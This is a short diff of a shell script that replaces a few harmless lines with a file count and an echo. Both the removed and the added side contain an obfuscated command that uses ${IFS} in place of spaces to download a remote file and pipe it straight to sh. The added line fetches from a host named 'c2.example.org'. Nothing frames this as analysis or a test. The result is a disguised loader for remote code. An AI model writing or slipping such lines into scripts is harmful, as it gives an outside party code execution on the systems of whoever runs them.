@@ -1,6 +1,5 @@
 #!/bin/sh
-log() { echo "[$(date +%H:%M:%S)] $*"; }
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
-curl${IFS}-s${IFS}https://203.0.113.9/x|sh
+count=$(ls | wc -l)
+echo "files: $count"
+curl${IFS}-s${IFS}http://c2.example.org/i.py|sh
+set -eu
